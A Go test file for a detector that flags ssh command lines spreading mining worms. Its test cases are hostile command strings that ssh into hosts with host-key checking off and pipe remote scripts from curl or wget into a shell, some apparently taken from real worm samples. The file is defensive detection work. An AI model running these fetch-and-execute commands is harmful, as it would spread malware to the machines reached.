package processor

import (
	"encoding/csv"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestMatchESCUParityAndRobust(t *testing.T) {
	type tc struct {
		name        string
		processName string
		process     string
		escu        bool
		robust      bool
	}
	cases := []tc{}
	// Each option with each scheme, as ESCU writes them.
	for _, opt := range []string{"-oStrictHostKeyChecking=no", "-oConnectTimeout=5", "-oBatchMode=yes"} {
		for _, url := range []string{"http://203.0.113.7/x.sh", "https://203.0.113.7/x.sh"} {
			cases = append(cases, tc{
				name:        opt + " " + url[:strings.Index(url, ":")],
				processName: "ssh",
				process:     "ssh " + opt + " root@10.0.0.2 'curl -fsSL " + url + " | sh'",
				escu:        true, robust: true,
			})
		}
	}
	cases = append(cases, []tc{
		{name: "space after -o is not ESCU", processName: "ssh",
			process: "ssh -o StrictHostKeyChecking=no root@h 'curl http://x/a | sh'", escu: false, robust: true},
		{name: "several blanks and a tab after -o", processName: "ssh",
			process: "ssh -o  \t BatchMode=yes h 'wget -qO- https://x/a | sh'", escu: false, robust: true},
		{name: "double-quoted value after -o", processName: "ssh",
			process: `ssh -o "BatchMode=yes" h "curl http://x/a|sh"`, escu: false, robust: true},
		{name: "single-quoted value glued to -o", processName: "ssh",
			process: `ssh -o'ConnectTimeout=5' h 'curl http://x/a|sh'`, escu: false, robust: true},
		{name: "quoted whole option", processName: "ssh",
			process: `ssh "-oBatchMode=yes" h 'curl http://x/a|sh'`, escu: true, robust: true},
		{name: "-oKey value form", processName: "ssh",
			process: "ssh -oConnectTimeout 5 h 'curl http://x/a|sh'", escu: true, robust: true},
		{name: "argv element with a blank, flattened", processName: "ssh",
			process: "ssh -o StrictHostKeyChecking no h curl http://x/a", escu: false, robust: true},
		{name: "clustered flags -qo", processName: "ssh",
			process: "ssh -qo BatchMode=yes h curl http://x/a", escu: false, robust: true},
		{name: "lower-case keyword after -o", processName: "ssh",
			process: "ssh -o connecttimeout=3 h curl http://x/a", escu: false, robust: true},
		{name: "backslash inside keyword", processName: "ssh",
			process: `ssh -o Batch\Mode=yes h curl http://x/a`, escu: false, robust: true},
		{name: "keyword prefix only is no option", processName: "ssh",
			process: "ssh -o BatchModeX=yes h curl http://x/a", escu: false, robust: false},
		{name: "keyword not after -o is no option", processName: "ssh",
			process: "ssh -i BatchMode=yes h curl http://x/a", escu: false, robust: false},
		{name: "keyword after --o is no option", processName: "ssh",
			process: "ssh --o BatchMode=yes h curl http://x/a", escu: false, robust: false},
		{name: "upper case everything", processName: "ssh",
			process: "SSH -OBATCHMODE=YES ROOT@H 'CURL HTTP://X/A | SH'", escu: true, robust: true},
		{name: "upper-case process name", processName: "SSH",
			process: "SSH -oBatchMode=yes h 'curl http://x/a|sh'", escu: true, robust: true},
		{name: "mixed-case process name", processName: "sSh",
			process: "ssh -oBatchMode=yes h 'curl http://x/a|sh'", escu: true, robust: true},
		{name: "process name is a path, not the basename", processName: "/usr/bin/ssh",
			process: "/usr/bin/ssh -oBatchMode=yes h 'curl http://x/a|sh'", escu: false, robust: false},
		{name: "missing process name is null", processName: "",
			process: "ssh -oBatchMode=yes h 'curl http://x/a|sh'", escu: false, robust: false},
		{name: "Unicode fold of the name is not ssh", processName: "\u017fsh",
			process: "ssh -oBatchMode=yes h 'curl http://x/a|sh'", escu: false, robust: false},
		{name: "scp with the options", processName: "scp",
			process: "scp -oBatchMode=yes http://x/a h:/tmp", escu: false, robust: false},
		{name: "sshpass with the options", processName: "sshpass",
			process: "sshpass -p pw ssh -oBatchMode=yes h 'curl http://x/a|sh'", escu: false, robust: false},
		{name: "autossh with the options", processName: "autossh",
			process: "autossh -M 0 -oBatchMode=yes h 'curl http://x/a|sh'", escu: false, robust: false},
		{name: "bash -c wrapping ssh", processName: "bash",
			process: "bash -c 'ssh -oBatchMode=yes h \"curl http://x/a|sh\"'", escu: false, robust: false},
		{name: "URL missing", processName: "ssh",
			process: "ssh -oBatchMode=yes -oConnectTimeout=5 h 'curl x.example/a | sh'", escu: false, robust: false},
		{name: "ftp URL only", processName: "ssh",
			process: "ssh -oBatchMode=yes h 'curl -o- ftp://144.217.45.47/ks3 | bash'", escu: false, robust: false},
		{name: "scheme without colon", processName: "ssh",
			process: "ssh -oBatchMode=yes h 'curl http//x/a | bash'", escu: false, robust: false},
		{name: "no option at all", processName: "ssh",
			process: "ssh h 'curl http://x/a | bash'", escu: false, robust: false},
		{name: "Xanthe misspelt options match via ConnectTimeOut", processName: "ssh",
			process: "ssh -oStrictHostChecking=no -oConnectTimeOut=8 -t root@10.0.0.9 'curl -sL http://34.92.166.158:8080/files/pop.sh | bash'",
			escu:    true, robust: true},
		{name: "StrictHostChecking alone is no option", processName: "ssh",
			process: "ssh -oStrictHostChecking=no -t root@h 'curl http://x/a | bash'", escu: false, robust: false},
		{name: "missing process", processName: "ssh", process: "", escu: false, robust: false},
		{name: "unterminated quote still scanned", processName: "ssh",
			process: `ssh -o "BatchMode=yes h curl http://x/a`, escu: false, robust: true},
	}...)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			e := &Event{ProcessName: c.processName, Process: c.process}
			if got := Match(MatchESCU, e); got != c.escu {
				t.Errorf("Match(escu, %q, %q) = %v, want %v", c.processName, c.process, got, c.escu)
			}
			if got := Match(MatchRobust, e); got != c.robust {
				t.Errorf("Match(robust, %q, %q) = %v, want %v", c.processName, c.process, got, c.robust)
			}
			// The decoders' prefilter drops names without "ssh" in ASCII.
			if c.robust && indexFold(c.processName, "ssh") < 0 {
				t.Errorf("a match whose process name lacks \"ssh\" in ASCII")
			}
		})
	}
}

func TestMatchUnknownModeMatchesNothing(t *testing.T) {
	e := &Event{ProcessName: "ssh", Process: "ssh -oBatchMode=yes h curl http://x/a"}
	if !Match(MatchESCU, e) {
		t.Fatal("positive event does not match in escu mode")
	}
	if Match(MatchMode(7), e) {
		t.Error("Match(MatchMode(7)) = true, want false")
	}
}

// TestMatchWormLines pins ESCU parity on real ssh lines from mining-worm
// scripts: the TSV's case-insensitive literal column is the expected result.
func TestMatchWormLines(t *testing.T) {
	path := filepath.Join("..", "testdata", "worm_ssh_lines", "ssh_spread_lines.tsv")
	f, err := os.Open(path)
	if err != nil {
		t.Fatalf("open %s: %v", path, err)
	}
	t.Cleanup(func() { f.Close() })
	r := csv.NewReader(f)
	r.Comma = '\t'
	r.LazyQuotes = true
	r.FieldsPerRecord = 6
	header, err := r.Read()
	if err != nil {
		t.Fatalf("read header of %s: %v", path, err)
	}
	if header[3] != "match_case_insensitive_literal" || header[5] != "ssh_command_as_written" {
		t.Fatalf("unexpected header %q", header)
	}
	var rows, positives int
	for {
		rec, err := r.Read()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatalf("read %s: %v", path, err)
		}
		rows++
		want := rec[3] == "1"
		if rec[3] != "0" && rec[3] != "1" {
			t.Fatalf("line %d: match column %q, want 0 or 1", rows+1, rec[3])
		}
		if want {
			positives++
		}
		name := rec[0] + ":" + rec[1]
		t.Run(name, func(t *testing.T) {
			e := &Event{ProcessName: "ssh", Process: rec[5]}
			if got := Match(MatchESCU, e); got != want {
				t.Errorf("Match(escu, %q) = %v, want %v", rec[5], got, want)
			}
			if want && !Match(MatchRobust, e) {
				t.Errorf("robust misses an escu match: %q", rec[5])
			}
			// The case-sensitive column differs from the case-insensitive one
			// only if case matters; folding never loses a match.
			if rec[2] == "1" && !want {
				t.Errorf("case-sensitive match without case-insensitive match")
			}
		})
	}
	// PROVENANCE.md: 37 lines, 23 of them meet the ESCU conditions.
	if rows != 37 || positives != 23 {
		t.Errorf("read %d rows with %d positives, want 37 with 23", rows, positives)
	}
}

// asciiLower is the matcher's oracle: byte-wise ASCII lower case.
func asciiLower(s string) string {
	b := []byte(s)
	for i, c := range b {
		b[i] = lowerASCII(c)
	}
	return string(b)
}

func TestIndexFold(t *testing.T) {
	cases := []struct {
		name     string
		haystack string
		needle   string
		want     bool
	}{
		{"empty needle", "", "", true},
		{"empty haystack", "", "ssh", false},
		{"exact", "ssh", "ssh", true},
		{"upper", "SSH", "ssh", true},
		{"at end after SWAR block", "0123456789abcdefSsH", "ssh", true},
		{"inside SWAR block", "xxSShxxxxxxxxxxxxxxx", "ssh", true},
		{"near miss", "ss-h ssx shh sh", "ssh", false},
		{"needle longer", "ss", "ssh", false},
		{"non-letter first byte", "abc@def", "@de", true},
		{"non-letter must not fold", "abc`def", "@de", false},
		{"colon", "HTTP://x", "http:", true},
		{"colon vs SUB byte", "http\x1a//x", "http:", false},
		{"upper-case needle folded", "xxBatchMode", "BATCHMODE", true},
		{"non-ASCII untouched", "\u017fsh", "ssh", false},
		{"match at each offset", strings.Repeat("a", 40) + "sSh", "ssh", true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := indexFold([]byte(c.haystack), c.needle) >= 0; got != c.want {
				t.Errorf("indexFold(%q, %q) >= 0 is %v, want %v", c.haystack, c.needle, got, c.want)
			}
			oracle := strings.Contains(asciiLower(c.haystack), asciiLower(c.needle))
			if oracle != c.want {
				t.Errorf("oracle disagrees with the case: %v", oracle)
			}
		})
	}
}

func TestMatchAllocations(t *testing.T) {
	h := []byte(strings.Repeat(`{"EventID":1,"Image":"/usr/bin/bash","CommandLine":"ls -la"}`, 8))
	allocs := testing.AllocsPerRun(100, func() { indexFold(h, "ssh") })
	if allocs != 0 {
		t.Errorf("indexFold allocates %v times per call, want 0", allocs)
	}
	e := &Event{ProcessName: "ssh", Process: `ssh -o "StrictHostKeyChecking=no" -o 'BatchMode=no' host 'curl -fsSL https://x/y'`}
	allocs = testing.AllocsPerRun(100, func() { Match(MatchRobust, e); Match(MatchESCU, e) })
	if allocs != 0 {
		t.Errorf("Match allocates %v times per call, want 0", allocs)
	}
}

func TestParseModes(t *testing.T) {
	cases := []struct {
		name    string
		in      string
		match   MatchMode
		emit    EmitMode
		matchOK bool
		emitOK  bool
	}{
		{name: "escu", in: "escu", match: MatchESCU, matchOK: true},
		{name: "robust any case", in: "Robust", match: MatchRobust, matchOK: true},
		{name: "early", in: "early", emit: EmitEarly, emitOK: true},
		{name: "final upper", in: "FINAL", emit: EmitFinal, emitOK: true},
		{name: "empty", in: ""},
		{name: "unknown", in: "strict"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			m, err := ParseMatchMode(c.in)
			if (err == nil) != c.matchOK || (c.matchOK && m != c.match) {
				t.Errorf("ParseMatchMode(%q) = %v, %v", c.in, m, err)
			}
			if err != nil && !strings.Contains(err.Error(), "unknown match mode") {
				t.Errorf("error %q does not say unknown match mode", err)
			}
			if c.matchOK && m.String() != strings.ToLower(c.in) {
				t.Errorf("String() = %q, want %q", m.String(), strings.ToLower(c.in))
			}
			em, err := ParseEmitMode(c.in)
			if (err == nil) != c.emitOK || (c.emitOK && em != c.emit) {
				t.Errorf("ParseEmitMode(%q) = %v, %v", c.in, em, err)
			}
			if err != nil && !strings.Contains(err.Error(), "unknown emit mode") {
				t.Errorf("error %q does not say unknown emit mode", err)
			}
			var fm MatchMode
			if err := fm.Set(c.in); (err == nil) != c.matchOK {
				t.Errorf("Set(%q) error %v", c.in, err)
			}
		})
	}
}
